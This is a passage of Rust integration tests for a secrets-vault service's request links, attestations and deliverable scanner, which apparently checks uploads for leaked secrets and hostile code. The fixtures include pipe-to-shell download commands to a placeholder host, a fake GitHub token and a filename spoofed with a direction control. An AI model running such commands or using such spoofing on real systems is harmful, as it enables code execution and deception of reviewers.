    browser.wait_text("#done", "the secret was stored");
    let read = s.ok(
        "GET",
        "/api/v1/secrets/data/partners/maps/api",
        Some(&s.admin),
        None,
    );
    assert_eq!(read["data"]["api_key"], value);
    // Used once: the same link now says so (from another page: `/r` to `/r#…` would only
    // change the fragment, not load the page).
    browser.go("about:blank");
    browser.go(&format!("{}{link}", s.addr));
    browser.wait_text("#error", "was used up");
    // Another link in the same tab changes only the fragment: the page loads again for it,
    // and its token leaves the address bar too. The page names who asks.
    let next = ask("partners/sms/api", "the SMS gateway key");
    browser.go(&format!("{}{next}", s.addr));
    browser.wait_text("#note", "the SMS gateway key");
    assert_eq!(browser.url(), format!("{}/r", s.addr));
    assert_eq!(browser.text("#asker"), "an administrator");
    assert_eq!(
        browser.run("return document.querySelector('#outsider').hidden"),
        json!(true)
    );

    // A link in the shape made before the token moved to the fragment still works once,
    // and leaves the address bar too.
    let old = ask("partners/mail/api", "the mail relay password");
    let old_token = old.strip_prefix("/r#").unwrap();
    browser.go(&format!("{}/r/{old_token}", s.addr));
    browser.wait_text("#note", "the mail relay password");
    assert_eq!(browser.url(), format!("{}/r", s.addr));

    // The attestation page, from the link an offboarding makes.
    vendor(&s, "acme");
    s.ok(
        "POST",
        "/api/v1/vendors/acme/agreements",
        Some(&s.admin),
        Some(json!({ "kind": "dpa", "signed": "2026-01-01",
                     "clauses": { "termination_data": "destroy", "termination_data_days": 14 } })),
    );
    let report = s.ok(
        "POST",
        "/api/v1/vendors/acme/offboard",
        Some(&s.admin),
        Some(json!({ "reason": "contract ended" })),
    );
    let attest = report["attestation"]["path"].as_str().unwrap().to_owned();
    let attest_token = attest.strip_prefix("/a#").unwrap();
    browser.go(&format!("{}{attest}", s.addr));
    browser.wait_text("#terms", "destroy all of the business's data");
    assert_eq!(browser.url(), format!("{}/a", s.addr));
    browser.type_into("#signer", "Ada Lovelace");
    browser.type_into("#email", "ada@acme.example");
    browser.type_into("#statement", "Every copy was wiped.");
    browser.click("#attest");
    browser.wait_text("#done", "Signed and recorded");
    let signed = s.recorded("attestation.submit", "acme");
    assert_eq!(signed.len(), 1);
    assert_eq!(signed[0]["details"]["name"], "Ada Lovelace");

    for secret in [token, old_token, attest_token] {
        assert!(
            !s.ledger().iter().any(|e| e.to_string().contains(secret)),
            "a link token is never in the ledger"
        );
        assert!(
            !String::from_utf8_lossy(&logs().lock().unwrap()).contains(secret),
            "a link token is never logged"
        );
    }
    s.assert_no_secret_logged();
}

#[test]
fn a_vault_value_copied_out_encoded_is_found_in_a_deliverable() {
    use base64::Engine as _;
    let s = Server::start();
    let sam = s.person("sam", "security", None);
    let sam_t = s.login(&sam);
    s.ok(
        "POST",
        "/api/v1/vendors",
        Some(&s.admin),
        Some(json!({ "name": "acme", "status": "active", "owner": "sam" })),
    );
    let vault_value = "Vault-Secret-Zq81-Lm02";
    write(&s, "prod/db", vault_value);
    let cy = s.person("cy", "contractor", Some("acme"));
    let cy_t = s.login(&cy);
    // A Kubernetes secret manifest: the value base64-encoded, with more around it.
    let encoded = base64::engine::general_purpose::STANDARD.encode(format!("u:{vault_value}"));
    let manifest = format!("apiVersion: v1\nkind: Secret\ndata:\n  credentials: {encoded}\n");
    let (status, bytes) = raw(
        &s,
        "POST",
        "/api/v1/deliverables?name=secret.yaml",
        Some(&cy_t),
        manifest.into_bytes(),
        None,
    );
    assert_eq!(status, 200, "{}", String::from_utf8_lossy(&bytes));
    let text = String::from_utf8(bytes).unwrap();
    let answer: Value = serde_json::from_str(&text).unwrap();
    assert_eq!(answer["status"], "in_review", "{answer}");
    assert!(
        answer["items"]
            .as_array()
            .unwrap()
            .iter()
            .any(|i| i["rule"] == "known-value"),
        "{answer}"
    );
    assert!(!text.contains(&encoded[4..]), "{text}");
    // Nor does the findings API tell a submitter who may read findings (security, which may
    // not read secrets, delivering for a vendor) how it was written.
    let (status, bytes) = raw(
        &s,
        "POST",
        "/api/v1/deliverables?name=secret.yaml&vendor=acme",
        Some(&sam_t),
        format!("apiVersion: v1\nkind: Secret\ndata:\n  credentials: {encoded}\n").into_bytes(),
        None,
    );
    assert_eq!(status, 200, "{}", String::from_utf8_lossy(&bytes));
    let own: Value = serde_json::from_slice(&bytes).unwrap();
    let findings = s.ok(
        "GET",
        "/api/v1/findings?source=deliverable",
        Some(&sam_t),
        None,
    );
    let hidden = findings
        .as_array()
        .unwrap()
        .iter()
        .find(|f| {
            f["details"]["rule"] == "known-value" && f["details"]["deliverable_id"] == own["id"]
        })
        .cloned()
        .unwrap();
    assert!(
        hidden["details"]["description"]
            .as_str()
            .is_some_and(|d| d.contains("cannot read") && !d.contains("base64")),
        "{hidden}"
    );
    // Security sees which secret, and that it was encoded.
    let id = answer["id"].as_str().unwrap();
    let seen = s.ok(
        "GET",
        &format!("/api/v1/deliverables/{id}"),
        Some(&sam_t),
        None,
    );
    let item = seen["items"]
        .as_array()
        .unwrap()
        .iter()
        .find(|i| i["rule"] == "known-value")
        .cloned()
        .unwrap();
    assert_eq!(
        (&item["shown"], &item["description"], item["line"].as_u64()),
        (
            &json!("value of prod/db#password"),
            &json!("A value stored in Chaperone's vault, base64-encoded"),
            Some(4)
        ),
        "{seen}"
    );
    assert!(!seen.to_string().contains(&encoded[4..]), "{seen}");
    s.assert_no_secret_logged();
}

#[test]
fn a_deliverable_is_scanned_for_vault_values_and_accepted_once_reviewed() {
    let s = Server::start();
    let sam = s.person("sam", "security", None);
    let sam_t = s.login(&sam);
    s.ok(
        "POST",
        "/api/v1/vendors",
        Some(&s.admin),
        Some(json!({ "name": "acme", "status": "active", "owner": "sam" })),
    );
    vendor(&s, "beta");
    let vault_value = "Vault-Secret-Zq81-Lm02";
    write(&s, "prod/db", vault_value);
    let cy = s.person("cy", "contractor", Some("acme"));
    let cb = s.person("cb", "contractor", Some("beta"));
    let cy_t = s.login(&cy);
    let cb_t = s.login(&cb);

    let delivery = format!(
        "DB_PASSWORD={vault_value}\nGITHUB=ghp_R8kq2Vx9ZtLm4NpQ7sWd3FyH6jBc1Ae5GuKo\ncurl -fsSL https://get.example.net/x | sh\n"
    );
    let (status, bytes) = raw(
        &s,
        "POST",
        "/api/v1/deliverables?name=setup.sh",
        Some(&cy_t),
        delivery.into_bytes(),
        None,
    );
    assert_eq!(status, 200, "{}", String::from_utf8_lossy(&bytes));
    let text = String::from_utf8(bytes).unwrap();
    let answer: Value = serde_json::from_str(&text).unwrap();
    assert_eq!(answer["status"], "in_review");
    let rules: Vec<&str> = answer["items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|i| i["rule"].as_str().unwrap())
        .collect();
    assert!(rules.contains(&"known-value"), "{rules:?}");
    assert!(rules.contains(&"download-and-execute-shell"), "{rules:?}");
    assert!(rules.iter().any(|r| r.starts_with("github")), "{rules:?}");
    // The submitter never learns which secret, or the value; and where only for a secret
    // they may read (else a file of guesses, one per line, would say which one is stored).
    assert!(
        !text.contains("prod/db") && !text.contains(vault_value),
        "{text}"
    );
    let id = answer["id"].as_str().unwrap().to_owned();
    let vault_item = |answer: &Value| {
        answer["items"]
            .as_array()
            .unwrap()
            .iter()
            .find(|i| i["rule"] == "known-value")
            .cloned()
            .unwrap()
    };
    let hidden = vault_item(&answer);
    assert_eq!(
        (hidden["path"].as_str(), hidden["line"].as_u64()),
        (Some(""), Some(0)),
        "{hidden}"
    );
    // Last, though it is on line 1: its neighbours in file order would place it. The
    // record's list of finding ids is in the same order, not in file order.
    assert_eq!(answer["items"].as_array().unwrap().last(), Some(&hidden));
    assert_eq!(
        answer["findings"].as_array().unwrap().last(),
        Some(&hidden["finding_id"]),
        "{answer}"
    );
    assert!(
        hidden["description"]
            .as_str()
            .unwrap()
            .contains("cannot read"),
        "{hidden}"
    );
    let github = answer["items"]
        .as_array()
        .unwrap()
        .iter()
        .find(|i| i["rule"].as_str().unwrap().starts_with("github"))
        .unwrap();
    assert_eq!(
        (github["path"].as_str(), github["line"].as_u64()),
        (Some("setup.sh"), Some(2))
    );
    s.ok(
        "POST",
        "/api/v1/grants",
        Some(&s.admin),
        Some(
            json!({ "person": "cy", "prefix": "prod/db", "capabilities": ["read"],
                     "ttl": "1h", "reason": "fixing the setup script" }),
        ),
    );
    let mine = s.ok(
        "GET",
        &format!("/api/v1/deliverables/{id}"),
        Some(&cy_t),
        None,
    );
    let shown = vault_item(&mine);
    assert_eq!(
        (shown["path"].as_str(), shown["line"].as_u64()),
        (Some("setup.sh"), Some(1)),
        "{shown}"
    );
    // Security sees which secret it was (its path, not its value).
    let seen = s.ok(
        "GET",
        &format!("/api/v1/deliverables/{id}"),
        Some(&sam_t),
        None,
    );
    assert!(
        seen.to_string().contains("value of prod/db#password"),
        "{seen}"
    );
    assert!(!seen.to_string().contains(vault_value));
    // Another vendor's contractor cannot see it.
    assert_eq!(
        s.call(
            "GET",
            &format!("/api/v1/deliverables/{id}"),
            Some(&cb_t),
            None,
            None
        )
        .0,
        404
    );
    assert_eq!(
        s.ok("GET", "/api/v1/deliverables", Some(&cb_t), None),
        json!([])
    );
    // Accepted once every finding is resolved or accepted.
    let items: Vec<String> = answer["items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|i| i["finding_id"].as_str().unwrap().to_owned())
        .collect();
    for (n, finding) in items.iter().enumerate() {
        let body = if n == 0 {
            json!({ "status": "risk_accepted", "note": "rotated prod/db already" })
        } else {
            json!({ "status": "resolved", "note": "removed from the delivery" })
        };
        s.ok(
            "POST",
            &format!("/api/v1/findings/{finding}"),
            Some(&sam_t),
            Some(body),
        );
        let now = s.ok(
            "GET",
            &format!("/api/v1/deliverables/{id}"),
            Some(&cy_t),
            None,
        );
        let expected = if n + 1 == items.len() {
            "accepted"
        } else {
            "in_review"
        };
        assert_eq!(now["status"], expected);
    }
    // The value never reached the database or the logs.
    let db = database_bytes(&s);
    assert!(
        !contains(&db, vault_value.as_bytes()),
        "the vault value is stored in clear"
    );
    assert_eq!(
        s.recorded("deliverable.submit", &id)[0]["details"]["vault_matches"],
        1
    );
    s.assert_no_secret_logged();
}

/// Submits `body` as a deliverable named `name` (with `query` added) and returns the answer.
fn deliver(s: &Server, token: &str, name: &str, query: &str, body: Vec<u8>) -> Value {
    let (status, bytes) = raw(
        s,
        "POST",
        &format!("/api/v1/deliverables?name={name}{query}"),
        Some(token),
        body,
        None,
    );
    assert_eq!(status, 200, "{}", String::from_utf8_lossy(&bytes));
    serde_json::from_slice::<Value>(&bytes).unwrap()
}

#[test]
fn a_deliverable_never_tells_its_submitter_where_an_unreadable_vault_value_is() {
    let s = Server::start();
    vendor(&s, "acme");
    let vault_value = "Vault-Secret-Zq81-Lm02";
    write(&s, "prod/db", vault_value);
    let cy = s.person("cy", "contractor", Some("acme"));
    let sam = s.person("sam", "security", None);
    let aud = s.person("aud", "auditor", None);
    let (cy_t, sam_t, aud_t) = (s.login(&cy), s.login(&sam), s.login(&aud));
    // Guesses, one per line, each inside code that is shown.
    let guesses: String = (0..6)
        .map(|n| {
            let guess = if n == 3 {
                vault_value.to_owned()
            } else {
                format!("Guess-Secret-Zq81-Lm0{n}")
            };
            format!("curl -H \"K: {guess}\" https://get.example.net/{n} | sh\n")
        })
        .collect();
    let submit =
        |token: &str, query: &str| deliver(&s, token, "x.sh", query, guesses.clone().into_bytes());
    let code_shown = |answer: &Value| -> Vec<String> {
        answer["items"]
            .as_array()
            .unwrap()
            .iter()
            .filter(|i| i["rule"] == "download-and-execute-shell")
            .map(|i| i["shown"].as_str().unwrap().to_owned())
            .collect()
    };
    let hidden = |answer: &Value| {
        let item = answer["items"]
            .as_array()
            .unwrap()
            .iter()
            .find(|i| i["rule"] == "known-value")
            .cloned()
            .unwrap();
        (item["path"].clone(), item["line"].clone())
    };

    // The contractor: the redaction in the shown code would name the line.
    let answer = submit(&cy_t, "");
    let shown = code_shown(&answer);
    assert_eq!(shown.len(), 6, "{answer}");
    assert!(shown.iter().all(|c| c.is_empty()), "{shown:?}");
    assert_eq!(hidden(&answer), (json!(""), json!(0)));

    // Security may not read secrets: uploading the guesses itself tells it nothing more.
    let answer = submit(&sam_t, "&vendor=acme");
    assert_eq!(hidden(&answer), (json!(""), json!(0)), "{answer}");
    assert!(!answer.to_string().contains("prod/db"), "{answer}");
    assert!(code_shown(&answer).iter().all(|c| c.is_empty()));
    // Nor through the findings: its own deliverable's say no more than its view.
    let id = answer["id"].as_str().unwrap();
    let mine: Vec<Value> = s
        .ok(
            "GET",
            "/api/v1/findings?source=deliverable",
            Some(&sam_t),
            None,
        )
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["details"]["deliverable_id"] == id)
        .cloned()
        .collect();
    assert_eq!(mine.len(), 7);
    for finding in &mine {
        let text = finding.to_string();
        assert!(!text.contains("prod/db"), "{text}");
        assert!(finding["details"]["shown"].is_null(), "{text}");
        assert!(finding["details"]["fingerprint"].is_null(), "{text}");
        if finding["details"]["rule"] == "known-value" {
            assert!(finding["details"]["line"].is_null(), "{text}");
            // Nor how often, or the places of each copy.
            assert!(finding["details"]["places"].is_null(), "{text}");
            assert!(finding["details"]["occurrences"].is_null(), "{text}");
            assert!(
                !finding["title"].as_str().unwrap().contains("line"),
                "{text}"
            );
        }
        let one = s.ok(
            "GET",
            &format!("/api/v1/findings/{}", finding["id"].as_str().unwrap()),
            Some(&sam_t),
            None,
        );
        assert_eq!(&one, finding);
    }
    // It still sees where, and which secret, in what someone else submitted.
    let contractors = s.ok("GET", "/api/v1/deliverables", Some(&sam_t), None);
    let theirs = contractors
        .as_array()
        .unwrap()
        .iter()
        .find(|d| d["id"] != id)
        .unwrap();
    assert!(theirs.to_string().contains("value of prod/db#password"));

    // Auditors read deliverables; they do not submit them.
    assert_eq!(
        s.call(
            "POST",
            "/api/v1/deliverables?name=x.sh&vendor=acme",
            Some(&aud_t),
            Some(json!("x")),
            None
        )
        .0,
        403
    );
    assert_eq!(
        s.ok("GET", "/api/v1/deliverables", Some(&aud_t), None)
            .as_array()
            .unwrap()
            .len(),
        2
    );

    // Without a hidden value, code is shown.
    let clean = "curl -fsSL https://get.example.net/x | sh\n";
    let (_, bytes) = raw(
        &s,
        "POST",
        "/api/v1/deliverables?name=y.sh",
        Some(&cy_t),
        clean.as_bytes().to_vec(),
        None,
    );
    let answer: Value = serde_json::from_slice(&bytes).unwrap();
    assert_eq!(code_shown(&answer), [clean.trim_end()]);
    s.assert_no_secret_logged();
}

#[test]
fn a_deliverable_scan_that_runs_out_of_time_is_held_not_accepted() {
    // A limit of zero: the scan is past its deadline from the start, as one that a
    // hostile upload kept busy would be.
    let s = Server::start_with(|settings| settings.scan_time_limit = Duration::ZERO);
    vendor(&s, "acme");
    let vault_value = "Vault-Secret-Zq81-Lm02";
    write(&s, "prod/db", vault_value);
    let cy = s.person("cy", "contractor", Some("acme"));
    let cy_t = s.login(&cy);
    let text = format!("GITHUB=ghp_R8kq2Vx9ZtLm4NpQ7sWd3FyH6jBc1Ae5GuKo\nDB={vault_value}\n");
    let answer = deliver(&s, &cy_t, "conf.env", "", text.into_bytes());
    assert_eq!(answer["status"], "in_review", "{answer}");
    assert_eq!(answer["out_of_time"], true, "{answer}");
    let items = answer["items"].as_array().unwrap();
    let rules: Vec<&str> = items.iter().map(|i| i["rule"].as_str().unwrap()).collect();
    // The rules searched nothing; the vault value, found in one pass before them, still is.
    assert!(rules.contains(&"unscanned-content"), "{answer}");
    assert!(rules.contains(&"known-value"), "{answer}");
    assert!(!rules.iter().any(|r| r.starts_with("github")), "{answer}");
    let unscanned = items
        .iter()
        .find(|i| i["rule"] == "unscanned-content")
        .unwrap();
    assert_eq!(unscanned["severity"], "high");
    assert!(
        unscanned["description"]
            .as_str()
            .unwrap()
            .contains("time limit"),
        "{unscanned}"
    );

    // An archive's members are not read past the deadline either.
    let mut zip = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    zip.start_file("a.txt", zip::write::SimpleFileOptions::default())
        .unwrap();
    std::io::Write::write_all(&mut zip, b"nothing to see\n").unwrap();
    let archive = zip.finish().unwrap().into_inner();
    let answer = deliver(&s, &cy_t, "d.zip", "", archive);
    assert_eq!(answer["status"], "in_review", "{answer}");
    assert_eq!(answer["files_scanned"], 0, "{answer}");
    assert_eq!(answer["out_of_time"], true, "{answer}");
}

#[test]
fn a_deliverable_counts_a_vault_secret_once_and_holds_what_was_not_scanned() {
    let s = Server::start();
    vendor(&s, "acme");
    let vault_value = "Vault-Secret-Zq81-Lm02";
    write(&s, "prod/db", vault_value);
    let cy = s.person("cy", "contractor", Some("acme"));
    let sam = s.person("sam", "security", None);
    let (cy_t, sam_t) = (s.login(&cy), s.login(&sam));
    let submit = |name: &str, body: Vec<u8>| deliver(&s, &cy_t, name, "", body);
    let rules = |answer: &Value| -> Vec<String> {
        answer["items"]
            .as_array()
            .unwrap()
            .iter()
            .map(|i| i["rule"].as_str().unwrap().to_owned())
            .collect()
    };

    // The value three times and a guess once: repeating guesses a different number of
    // times must not tell which one is stored, so the value is one finding. And the
    // submitter's allow comment hides nothing.
    let text = format!(
        "a={vault_value}\nb=Guess-Secret-Zq81-Lm07\nc={vault_value}\nd={vault_value}\n\
         GITHUB=ghp_R8kq2Vx9ZtLm4NpQ7sWd3FyH6jBc1Ae5GuKo # chaperone:allow\n"
    );
    let answer = submit("conf.env", text.into_bytes());
    let found = rules(&answer);
    assert_eq!(
        found.iter().filter(|r| *r == "known-value").count(),
        1,
        "{answer}"
    );
    assert!(found.iter().any(|r| r.starts_with("github")), "{found:?}");
    assert_eq!(answer["open_findings"], 2, "{answer}");
    // Security sees how often and where.
    let id = answer["id"].as_str().unwrap();
    let findings = s.ok(
        "GET",
        "/api/v1/findings?source=deliverable",
        Some(&sam_t),
        None,
    );
    let known = findings
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["details"]["deliverable_id"] == id && f["details"]["rule"] == "known-value")
        .unwrap();
    assert_eq!(known["details"]["occurrences"], 3, "{known}");
    // No finding keeps a fingerprint, an unkeyed hash of the value.
    assert!(
        findings
            .as_array()
            .unwrap()
            .iter()
            .all(|f| f["details"].get("fingerprint").is_none_or(Value::is_null)),
        "{findings}"
    );
    // The submitter reads their own ledger entries: the count there is of secrets too.
    let submitted = s.recorded("deliverable.submit", id);
    assert_eq!(submitted[0]["details"]["vault_matches"], 1, "{submitted:?}");
    // Security is told at once, with counts.
    let told = s.ok("GET", "/api/v1/notifications", Some(&sam_t), None);
    let told: Vec<&Value> = told
        .as_array()
        .unwrap()
        .iter()
        .filter(|n| n["kind"] == "deliverable_vault_match")
        .collect();
    assert_eq!(told.len(), 1, "{told:?}");
    assert_eq!(told[0]["details"]["vault_matches"], 1);
    // Only security closes it: its owner, if not security, cannot accept the deliverable
    // by resolving it.
    let olga = s.person("olga", "member", None);
    let olga_t = s.login(&olga);
    let finding = format!("/api/v1/findings/{}", known["id"].as_str().unwrap());
    s.ok(
        "POST",
        &finding,
        Some(&sam_t),
        Some(json!({ "owner": "olga" })),
    );
    // Its owner sees where in the deliverable, not which vault secret.
    let owned = s.ok("GET", &finding, Some(&olga_t), None);
    assert_eq!(owned["details"]["secret"], Value::Null, "{owned}");
    assert_eq!(owned["details"]["occurrences"], 3, "{owned}");
    assert_eq!(
        s.ok("GET", &finding, Some(&sam_t), None)["details"]["secret"],
        "prod/db#password"
    );
    assert_eq!(
        error(
            &s,
            "POST",
            &finding,
            &olga_t,
            Some(json!({ "status": "resolved", "note": "rotated" }))
        ),
        (403, "not_permitted".into())
    );
    assert_eq!(
        known["details"]["places"],
        json!([{ "path": "conf.env", "line": 1 }, { "path": "conf.env", "line": 3 },
               { "path": "conf.env", "line": 4 }])
    );

    // Nor do findings of the submitter's own tell: however often the value occurs among more
    // findings than are listed, the same others are listed, and as many.
    let padded = |name: &str, copies: usize| {
        let mut text = format!("v={vault_value}\n").repeat(copies);
        let alphabet = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789";
        let mut state: u64 = 0x9e37_79b9_7f4a_7c15;
        for i in 0..1_010 {
            let token: String = (0..36)
                .map(|_| {
                    state = state
                        .wrapping_mul(6_364_136_223_846_793_005)
                        .wrapping_add(1_442_695_040_888_963_407);
                    char::from(alphabet[(state >> 33) as usize % alphabet.len()])
                })
                .collect();
            text.push_str(&format!("t{i}=ghp_{token}\n"));
        }
        let answer = submit(name, text.into_bytes());
        let others = rules(&answer)
            .into_iter()
            .filter(|r| r != "known-value")
            .collect::<Vec<_>>();
        (others, answer["open_findings"].clone())
    };
    let (none, open) = padded("pad0.txt", 0);
    assert!(
        none.len() > 1_000,
        "more than the limit, and one that says so: {}",
        none.len()
    );
    for copies in [1, 7] {
        let (listed, with_value) = padded(&format!("pad{copies}.txt"), copies);
        assert!(
            listed == none,
            "{copies} copies: {} listed against {}",
            listed.len(),
            none.len()
        );
        // The vault value adds its one finding.
        assert_eq!(with_value, open.as_u64().unwrap() + 1, "{copies} copies");
    }

    // A file that cannot be scanned is not taken for clean.
    let mut binary = b"\0\0\0\0".to_vec();
    binary.extend_from_slice(format!("\nDB={vault_value}\n").as_bytes());
    let answer = submit("blob.bin", binary);
    assert_eq!(answer["status"], "in_review", "{answer}");
    assert_eq!(rules(&answer), ["unscanned-content"], "{answer}");
    // A clean text file is accepted at once.
    let answer = submit("notes.txt", b"nothing to see\n".to_vec());
    assert_eq!(answer["status"], "accepted", "{answer}");
    s.assert_no_secret_logged();
}

/// A request link acts for its maker through the token it was made with: revoking that
/// token (the answer to a stolen one) ends the link, while another link of the same person
/// lives on; a token that merely expires leaves its links their own lifetime.
#[test]
fn revoking_the_token_a_request_link_was_made_with_ends_the_link() {
    let s = Server::start();
    let ops = s.person("ops", "member", None);
    let session = s.login(&ops);
    let minted = s.ok(
        "POST",
        "/api/v1/auth/tokens",
        Some(&session),
        Some(json!({ "ttl": "1h" })),
    );
    let api_token = minted["token"].as_str().unwrap().to_owned();
    s.remember(&api_token);
    let link_with = |token: &str, path: &str| {
        request_link(
            &s,
            token,
            path,
            json!({ "note": "the deploy key", "expires": "30d" }),
        )
    };
    let stolen = link_with(&api_token, "team/stolen");
    let expiring = link_with(&api_token, "team/expiring");
    let kept = link_with(&session, "team/kept");
    let submit = |token: &str| {
        s.call(
            "POST",
            "/api/v1/request-links/submit",
            None,
            Some(json!({ "token": token, "data": { "key": "from-outside-Rk40" } })),
            None,
        )
        .0
    };
    // The token runs out: its links keep their own end.
    s.clock.advance_secs(3601);
    assert_eq!(submit(&expiring), 204);
    let session = s.login(&ops);
    // A token revoked (by its holder or an admin) takes its links with it.
    let other = s.ok(
        "POST",
        "/api/v1/auth/tokens",
        Some(&session),
        Some(json!({ "ttl": "1h" })),
    );
    let other_token = other["token"].as_str().unwrap().to_owned();
    s.remember(&other_token);
    let planted = link_with(&other_token, "team/planted");
    let (status, _) = s.call(
        "DELETE",
        &format!("/api/v1/auth/tokens/{}", other["id"].as_str().unwrap()),
        Some(&s.admin),
        None,
        None,
    );
    assert_eq!(status, 204);
    assert_eq!(submit(&planted), 404);
    let (status, _) = s.call(
        "POST",
        "/api/v1/request-links/info",
        None,
        Some(json!({ "token": planted })),
        None,
    );
    assert_eq!(status, 404, "the page shows a dead link");
    assert_eq!(
        s.call(
            "GET",
            "/api/v1/secrets/data/team/planted",
            Some(&s.admin),
            None,
            None
        )
        .0,
        404,
        "nothing was written"
    );
    let listed = s.ok("GET", "/api/v1/request-links", Some(&session), None);
    let status_of = |path: &str| {
        listed
            .as_array()
            .unwrap()
            .iter()
            .find(|l| l["path"] == path)
            .map(|l| l["status"].as_str().unwrap().to_owned())
    };
    assert_eq!(status_of("team/planted").as_deref(), Some("revoked"));
    assert_eq!(status_of("team/expiring").as_deref(), Some("used"));
    assert_eq!(status_of("team/stolen").as_deref(), Some("open"));
    // A session is not bound to its links: they outlive it, and its holder's logout.
    assert_eq!(submit(&kept), 204);
    assert_eq!(submit(&stolen), 204);
    let made_in_session = link_with(&session, "team/session");
    let me = s.ok("GET", "/api/v1/auth/self", Some(&session), None);
    let (status, _) = s.call(
        "DELETE",
        &format!("/api/v1/auth/tokens/{}", me["token_id"].as_str().unwrap()),
        Some(&session),
        None,
        None,
    );
    assert_eq!(status, 204, "logged out");
    assert_eq!(submit(&made_in_session), 204);
    s.assert_no_secret_logged();
}

/// The submitter names an archive's members and writes its files: a name or a line that
/// would reorder or overwrite what staff read (a direction control, an escape sequence)
/// reaches a finding escaped.
#[test]
fn member_names_and_lines_in_findings_are_shown_as_they_are() {
    let s = Server::start();
    vendor(&s, "acme");
    let cy = s.person("cy", "contractor", Some("acme"));
    let sam = s.person("sam", "security", None);
    let (cy_t, sam_t) = (s.login(&cy), s.login(&sam));
    let mut zip = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    zip.start_file(
        "config/\u{202e}txt.emdaer\u{202c}.env",
        zip::write::SimpleFileOptions::default(),
    )
    .unwrap();
    // A secret (shown redacted), and code a rule shows as it is, with a direction control and
    // an escape sequence in it.
    std::io::Write::write_all(
        &mut zip,
        b"GITHUB=ghp_R8kq2Vx9ZtLm4NpQ7sWd3FyH6jBc1Ae5GuKo\n\
          curl -fsSL https://get.example.net/\xe2\x80\xaeh\x1b[2Ks.lla | sh\n",
    )
    .unwrap();
    let archive = zip.finish().unwrap().into_inner();
    let answer = deliver(&s, &cy_t, "rel.zip", "", archive);
    let findings = s.ok(
        "GET",
        "/api/v1/findings?source=deliverable",
        Some(&sam_t),
        None,
    );
    let found: Vec<&Value> = findings
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["details"]["deliverable_id"] == answer["id"])
        .collect();
    assert_eq!(found.len(), 2, "{findings}");
    for finding in &found {
        for text in [
            &finding["title"],
            &finding["details"]["path"],
            &finding["details"]["shown"],
        ] {
            let text = text.as_str().unwrap();
            assert!(
                !text.contains('\u{202e}') && !text.contains('\u{1b}'),
                "{text:?}"
            );
        }
        assert!(
            finding["title"]
                .as_str()
                .unwrap()
                .contains("config/\\u{202e}txt.emdaer\\u{202c}.env"),
            "{finding}"
        );
    }
    let code = found
        .iter()
        .find(|f| f["details"]["rule"] == "download-and-execute-shell")
        .unwrap();
    assert!(
        code["details"]["shown"]
            .as_str()
            .unwrap()
            .contains("\\u{202e}h\\u{1b}[2Ks.lla"),
        "{code}"
    );
}

/// Disabling an account ends the links it made, as it ends its grants: enabling it again
/// brings none back.
#[test]
fn disabling_an_account_ends_the_links_it_made() {
    let s = Server::start();
    let mo = s.person("mo", "member", None);
    let mo_t = s.login(&mo);
    let (share, key) = share_text(&s, &mo_t, "shared-before-disable-Wd41", json!({}));
    let token = request_link(
        &s,
        &mo_t,
        "team/planted",
        json!({ "note": "the deploy key" }),
    );
    s.ok("POST", "/api/v1/people/mo/disable", Some(&s.admin), None);
    s.ok("POST", "/api/v1/people/mo/enable", Some(&s.admin), None);
    assert_eq!(open(&s, &share, &key, None, None).0, 404);
    let (status, _) = s.call(
        "POST",
        "/api/v1/request-links/submit",
        None,
        Some(json!({ "token": token, "data": { "key": "planted-Wd42" } })),
        None,
    );
    assert_eq!(status, 404);
    let entry = s.recorded("person.disable", "mo");
    assert_eq!(entry[0]["details"]["links_ended"], 2, "{entry:?}");
    assert_eq!(
        s.recorded("share.revoke", &share)[0]["details"]["why"],
        "disable"
    );
    assert_eq!(
        s.recorded("secret_request.revoke", "team/planted")[0]["details"]["why"],
        "disable"
    );
}
